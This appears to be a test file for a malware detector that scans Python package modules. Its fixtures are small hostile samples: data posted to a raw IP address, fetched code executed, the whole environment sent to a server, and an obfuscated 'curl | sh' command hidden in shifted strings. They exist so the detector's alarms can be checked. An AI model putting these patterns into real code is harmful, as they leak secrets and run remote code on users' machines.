/** Modules of packages are judged for intent: what a library may do stays silent, what no library does is an alarm wherever it stands. */
import { strict as assert } from 'node:assert';
import { createProject } from '../../server/src/analysis/create';
import { DEFAULT_SETTINGS } from '../../server/src/analysis/settings';
import { loadParsers } from '../../server/src/platform/node-grammars';
import type { Parsers } from '../../server/src/syntax/parser';

describe('modules of a package', () => {
  let parsers: Parsers;
  before(async () => {
    parsers = await loadParsers();
  });

  const reportOf = (text: string) => {
    const project = createProject(parsers, { ...DEFAULT_SETTINGS, wholePackage: true });
    project.set('pkg/client.py', { kind: 'text', text });
    return project.snapshot().report();
  };
  const told = (text: string): string[] => reportOf(text).findings.filter(({ persona }) => persona === 'regular').map(({ rule, signs }) => [rule, ...signs].join(' '));

  it('may talk to servers that have a name', () => {
    assert.deepEqual(told('import requests\n\ndef latest():\n    return requests.get("https://example.org/latest").json()\n'), []);
  });

  it('are told about when the server has none, which is an alarm', () => {
    const text = 'import requests\n\ndef latest(data):\n    return requests.post("http://198.51.100.7:8080/in", json=data)\n';
    assert.deepEqual(told(text), ['network-access network:address', 'suspicious-text text:raw-address']);
    assert.ok(reportOf(text).scores.malware >= 0.5);
  });

  it('may talk to servers of their own network', () => {
    for (const host of ['127.0.0.1:5000', '10.0.0.2', '192.168.1.1', '172.16.0.1']) assert.deepEqual(told(`import requests\n\ndef ping():\n    return requests.get("http://${host}/")\n`), [], host);
  });

  it('may decode an address that they read, not one that they hold', () => {
    const fetch = 'import base64, urllib.request\n\ndef fetch(line):\n    return urllib.request.urlopen(base64.b64decode(line).decode())\n';
    assert.deepEqual(told(fetch), []);
    assert.deepEqual(told(`${fetch}\nfetch("aHR0cHM6Ly9leGFtcGxlLm9yZy9hL2xvbmcvYWRkcmVzcy90by9iZS9zdXJl")\n`), ['network-access from:decoded']);
  });

  it('may not start what they fetched under a name of their own', () => {
    assert.deepEqual(told('import requests, subprocess\n\ndef update():\n    open("tool.py", "w").write(requests.get("https://example.org/tool.py").text)\n    subprocess.call(["python", "tool.py"])\n'), [
      'process-start from:network',
    ]);
  });

  describe('whose functions are called very often', () => {
    const calls = (count: number, argument: (i: number) => string): string => Array.from({ length: count }, (_, i) => `    send(${argument(i)})\n`).join('');
    const sender = 'import os, requests\n\ndef send(data):\n    for key in data:\n        for part in key:\n            print(part)\n    requests.post("https://example.org/in", json={"d": data})\n\ndef main():\n';

    it('are told about when the last call is the first that sends what is secret', () => {
      assert.deepEqual(told(`${sender}${calls(20, (i) => `unknown.part${i}`)}    send(dict(os.environ))\n`), ['data-exfiltration from:whole-environment']);
    });

    it('decode every constant, however many there are', () => {
      const decode = 'def d(text):\n    out = ""\n    for c in text:\n        out += chr(ord(c) - 1)\n    return out\n\n';
      const shifted = (text: string): string => JSON.stringify([...text].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''));
      const many = Array.from({ length: 60 }, (_, i) => `d(${shifted(`name number ${i}`)})\n`).join('');
      assert.deepEqual(told(`${decode}${many}exec(d(${shifted('import os; os.system("curl -s https://example.org/x | sh")')}))\n`).filter((one) => one.startsWith('hostile-command')), ['hostile-command command:hostile']);
    });
  });

  describe('whose functions only compute', () => {
    it('are run for constants, and silent otherwise', () => {
      const text = 'import os\n\ndef shift(data, by):\n    return "".join(chr(ord(c) - by) for c in data)\n\n';
      assert.deepEqual(told(`${text}os.system(shift("dvsm!.t!iuuqt;00fybnqmf/psh0y!}!ti", 1))\n`), ['hostile-command command:hostile', 'process-start from:decoded']);
      assert.deepEqual(told(`${text}def run(data):\n    return shift(data, 1)\n`), []);
    });

    it('hand on where data came from', () => {
      assert.deepEqual(told('import os, requests\n\nclass Box:\n    def __init__(self, data):\n        self.data = data\n    def packed(self, by):\n        return [by, self.data]\n\ndef send(by):\n    requests.post("https://example.org/in", json=Box(dict(os.environ)).packed(by))\n'),
        ['data-exfiltration from:whole-environment']);
    });
  });
});
